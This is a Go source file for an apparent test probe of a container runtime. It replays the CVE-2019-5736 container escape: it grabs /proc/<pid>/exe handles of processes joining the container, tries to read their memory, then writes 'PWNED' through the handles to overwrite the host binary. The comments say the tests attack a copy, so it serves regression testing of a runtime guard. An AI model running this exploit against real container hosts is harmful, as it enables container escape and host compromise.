package main

// /probe exe-grab MILLISECONDS — the CVE-2019-5736 attack, replayed.
//
// For the given time, or until a file /stop appears, it watches /proc for
// new processes. Of each one whose
// program is not the probe itself (a kobako init, joining the container for
// `kobako exec`), it takes a handle on /proc/<pid>/exe (O_PATH, as the
// exploit did) and tries to read its memory. When the time is up — by then
// those processes have exec'd or exited — it tries to reopen every handle
// for writing and write "PWNED" into it, which on a runtime without the
// guard overwrote the host's own binary (the tests attack a copy).

import (
	"fmt"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("exe-grab", 1, func(a []string) (any, error) {
		ms, err := strconv.Atoi(a[0])
		if err != nil {
			return nil, fmt.Errorf("exe-grab MILLISECONDS: %w", err)
		}
		return exeGrab(time.Duration(ms) * time.Millisecond)
	})
}

type grabResult struct {
	Seen       int      `json:"seen"`       // processes that were not the probe
	Grabbed    int      `json:"grabbed"`    // of those, exe handles taken
	Targets    []string `json:"targets"`    // what those handles pointed at
	MemRead    int      `json:"memRead"`    // /proc/<pid>/mem opened for reading
	Written    int      `json:"written"`    // handles reopened and written to
	WriteError []string `json:"writeError"` // why the others were not
}

func exeGrab(d time.Duration) (grabResult, error) {
	r := grabResult{Targets: []string{}, WriteError: []string{}}
	self, err := statID("/proc/self/exe")
	if err != nil {
		return r, err
	}
	seen := map[string]bool{}
	var handles []int
	for end := time.Now().Add(d); time.Now().Before(end) && !exists("/stop"); {
		dir, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return r, err
		}
		names, err := readDirNames(dir)
		unix.Close(dir)
		if err != nil {
			return r, err
		}
		for _, pid := range names {
			if _, err := strconv.Atoi(pid); err != nil || seen[pid] {
				continue
			}
			seen[pid] = true
			if id, err := statID("/proc/" + pid + "/exe"); err == nil && id == self {
				continue // the probe: this one, or one that exec'd already
			}
			r.Seen++
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				r.Grabbed++
				handles = append(handles, fd)
				target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
				r.Targets = append(r.Targets, target)
			}
			if fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				r.MemRead++
				unix.Close(fd)
			}
		}
	}
	for _, h := range handles {
		fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", h), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(fd, []byte("PWNED"))
			unix.Close(fd)
		}
		if err != nil {
			r.WriteError = append(r.WriteError, err.Error())
			continue
		}
		r.Written++
	}
	return r, nil
}

func exists(path string) bool {
	var st unix.Stat_t
	return unix.Stat(path, &st) == nil
}
